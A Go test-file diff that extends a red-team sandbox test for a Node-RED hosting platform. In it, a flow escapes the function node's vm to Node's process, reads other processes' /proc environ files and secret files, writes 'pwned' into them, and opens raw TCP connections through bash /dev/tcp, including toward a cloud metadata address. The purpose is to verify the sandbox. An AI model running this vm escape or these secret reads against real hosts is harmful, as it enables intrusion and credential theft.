@@ -9,6 +9,7 @@ import (
 	"log/slog"
 	"maps"
 	"net/http"
+	"net/netip"
 	"os"
 	"path/filepath"
 	"slices"
@@ -21,17 +22,28 @@ import (
 	"github.com/flowyard/flowyard/drivers"
 )
 
-// The red team: a member's flow with a function node (which escapes Node-RED's vm to Node's own fs and
-// process) and an exec node (a shell) tries to reach the platform and another team's instance. A
-// sandboxed instance must fail at every attempt; an unsandboxed one succeeds, which proves the attempts
-// are real.
+// The red team: a member's flow with a function node (which escapes Node-RED's vm to Node's own fs,
+// process and net) and an exec node (a shell) tries to reach the platform and another team's instance,
+// through their files, their processes and the network. A sandboxed instance must fail at every attempt
+// but the connections flows are for (its runtime API, its own address, a host outside); an unsandboxed
+// one succeeds, which proves the attempts are real.
 
 // attack is one attempt, run by the function node (JavaScript) and by the exec node (sh).
 type attack struct {
 	Name string `json:"name"`
-	Op   string `json:"op"` // ps, read, list, write, append, kill (signal 0)
+	Op   string `json:"op"` // ps, read, list, write, append, kill (signal 0), connect (TCP to host:port)
 	Path string `json:"path,omitempty"`
 	PID  int    `json:"pid,omitempty"`
+	Host string `json:"host,omitempty"`
+	Port int    `json:"port,omitempty"`
+	// allowed: a sandboxed flow must succeed (a connection flows need); banner: what the listener says
+	allowed bool
+	banner  string
+}
+
+// connectTo is a connect attack on ap; banner is what a listener of the test answers, "" for others.
+func connectTo(name string, ap netip.AddrPort, banner string) attack {
+	return attack{Name: name, Op: "connect", Host: ap.Addr().String(), Port: int(ap.Port()), banner: banner}
 }
 
 // attempt is what one attack got: OK when the operation succeeded.
@@ -54,9 +66,20 @@ var redTeamFlows = `[{"id":"tab1","type":"tab","label":"Red team"},
 {"id":"n-res","type":"http response","z":"tab1","wires":[]}]`
 
 // redTeamJS leaves the function node's sandbox through a host object (msg) and runs every attack with
-// Node's fs and process.
+// Node's fs, process and net.
 const redTeamJS = `const proc = msg.constructor.constructor("return process")();
 const fs = proc.mainModule.require("fs");
+const net = proc.mainModule.require("net");
+function connect(a) {
+    return new Promise((resolve, reject) => {
+        const s = net.connect({host: a.host, port: a.port});
+        let banner = "";
+        const timer = setTimeout(() => { s.destroy(); reject({code: "timeout"}); }, 5000);
+        s.on("data", (d) => { banner += d.toString("latin1"); });
+        s.on("connect", () => setTimeout(() => { clearTimeout(timer); s.destroy(); resolve("connected " + banner); }, 300));
+        s.on("error", (e) => { clearTimeout(timer); reject(e); });
+    });
+}
 function ps() {
     return fs.readdirSync("/proc").filter((n) => /^[0-9]+$/.test(n)).map((p) => {
         try { return p + " " + fs.readFileSync("/proc/" + p + "/cmdline", "latin1").replace(/[\0\n]/g, " "); }
@@ -70,12 +93,13 @@ const ops = {
     write: (a) => { fs.writeFileSync(a.path, "pwned"); return "written"; },
     append: (a) => { fs.appendFileSync(a.path, "pwned"); return "appended"; },
     kill: (a) => { proc.kill(a.pid, 0); return "signalled"; },
+    connect: connect,
 };
-msg.payload = msg.payload.attacks.map((a) => {
-    try { return {name: a.name, ok: true, got: String(ops[a.op](a)).slice(0, 100000)}; }
+Promise.all(msg.payload.attacks.map(async (a) => {
+    try { return {name: a.name, ok: true, got: String(await ops[a.op](a)).slice(0, 100000)}; }
     catch (e) { return {name: a.name, ok: false, got: e.code || String(e)}; }
-});
-return msg;`
+})).then((results) => { msg.payload = results; node.send(msg); node.done(); });
+return null;`
 
 // shellCommand is an attack as a shell command.
 func (a attack) shellCommand() string {
@@ -93,6 +117,8 @@ func (a attack) shellCommand() string {
 		return "echo pwned >> " + q
 	case "kill":
 		return "kill -0 " + strconv.Itoa(a.PID)
+	case "connect": // bash's /dev/tcp; prints "connected" and what the listener says in a second
+		return fmt.Sprintf("timeout 5 bash -c 'exec 3<>/dev/tcp/%s/%d && echo connected && { timeout 1 head -c 64 <&3; true; }'", a.Host, a.Port)
 	}
 	panic("unknown attack op " + a.Op)
 }
@@ -128,14 +154,15 @@ func parseShellAttempts(t *testing.T, out string) []attempt {
 }
 
 // redTeam is a data dir holding the platform's files and a victim instance (of another team, with its
-// own token and secret), and the attacker's instance beside it.
+// own token and secret), the attacker's instance beside it, and the network services around them.
 type redTeam struct {
 	dataDir, secretKey, database string
 	victim                       drivers.InstanceSpec
 	victimDir                    string
-	victimPID, attackerPort      int
-	attacker                     drivers.Status
+	victimPID                    int
+	victimStatus, attacker       drivers.Status
 	originals                    map[string][]byte // files the attacks must leave as they are
+	network                      []attack          // the connections the attacker tries
 }
 
 func newRedTeam(t *testing.T, mode SandboxMode) *redTeam {
@@ -156,11 +183,14 @@ func newRedTeam(t *testing.T, mode SandboxMode) *redTeam {
 	w.victim.InstanceToken, w.victim.CredentialSecret = "victim-instance-token-"+t.Name(), "victim-credential-secret-"+t.Name()
 	newFakeForge(t, &w.victim, `[]`)
 	w.victimDir = d.instanceDir(w.victim.InstanceID)
-	w.victimPID = startReady(t, d, w.victim).PID
+	w.victimStatus = startReady(t, d, w.victim)
+	w.victimPID = w.victimStatus.PID
 
 	attacker := testSpec("attacker")
-	writeFlows(t, d, attacker.InstanceID, redTeamFlows)
+	attacker.InstanceToken = "attacker-instance-token"
+	newFakeForge(t, &attacker, redTeamFlows) // so that it has a runtime API to reach
 	w.attacker = startReady(t, d, attacker)
+	w.network = networkAttacks(t, w.victimStatus, w.attacker, attacker.ForgeURL)
 	w.originals = map[string][]byte{}
 	for _, path := range []string{w.secretKey, w.database, w.victimFile(settingsFileName), w.victimFile(secretsFileName)} {
 		w.originals[path], _ = os.ReadFile(path)
@@ -171,7 +201,7 @@ func newRedTeam(t *testing.T, mode SandboxMode) *redTeam {
 func (w *redTeam) victimFile(name string) string { return filepath.Join(w.victimDir, name) }
 
 func (w *redTeam) attacks() []attack {
-	return []attack{
+	return append([]attack{
 		{Name: "list processes", Op: "ps"},
 		{Name: "read the platform's environment", Op: "read", Path: fmt.Sprintf("/proc/%d/environ", os.Getpid())},
 		{Name: "read the victim's environment", Op: "read", Path: fmt.Sprintf("/proc/%d/environ", w.victimPID)},
@@ -190,7 +220,7 @@ func (w *redTeam) attacks() []attack {
 		{Name: "append to the database", Op: "append", Path: w.database},
 		{Name: "write into the victim's user dir", Op: "write", Path: filepath.Join(w.victimFile(userDirName), "pwned")},
 		{Name: "append to the victim's settings.js", Op: "append", Path: w.victimFile(settingsFileName)},
-	}
+	}, w.network...)
 }
 
 // run sends every attack through the function node and the exec node and returns what each got, keyed
@@ -235,15 +265,25 @@ func (w *redTeam) strangers(listing string) []string {
 func TestSandboxRedTeam(t *testing.T) {
 	w := newRedTeam(t, SandboxBwrap)
 	got := w.run(t)
+	attacks := map[string]attack{}
+	for _, a := range w.attacks() {
+		attacks[a.Name] = a
+	}
 	for _, key := range slices.Sorted(maps.Keys(got)) {
 		a := got[key]
 		t.Logf("%s: ok=%v got %.300q", key, a.OK, a.Got)
-		if strings.HasSuffix(key, "list processes") {
+		_, name, _ := strings.Cut(key, ": ")
+		switch attack := attacks[name]; {
+		case strings.HasSuffix(key, "list processes"):
 			w.checkOwnProcessesOnly(t, key, a)
-			continue
-		}
-		if a.OK {
+		case attack.allowed:
+			if !a.OK || !strings.Contains(a.Got, attack.banner) {
+				t.Errorf("%s: a connection flows need failed in the sandbox: %.300q", key, a.Got)
+			}
+		case a.OK:
 			t.Errorf("%s succeeded from inside the sandbox: %.300q", key, a.Got)
+		case attack.Op == "connect" && !refusedByFilter(a.Got):
+			t.Errorf("%s failed, but not because the network filter refused it: %.300q", key, a.Got)
 		}
 	}
 	for path, before := range w.originals {
@@ -292,6 +332,13 @@ func TestRedTeamReachesEverythingUnsandboxed(t *testing.T) {
 		}
 		if ps := got[via+": list processes"]; len(w.strangers(ps.Got)) == 0 {
 			t.Errorf("%s: the listing shows neither the platform nor the victim: %.500q", via, ps.Got)
+		}
+		for _, attack := range w.network { // the metadata address answers only in a cloud
+			a := got[via+": "+attack.Name]
+			t.Logf("%s: %s: ok=%v got %.300q", via, attack.Name, a.OK, a.Got)
+			if attack.Host != metadataAddress.String() && (!a.OK || !strings.Contains(a.Got, attack.banner)) {
+				t.Errorf("%s: %s failed without the sandbox: %.300q", via, attack.Name, a.Got)
+			}
 		}
 	}
 }
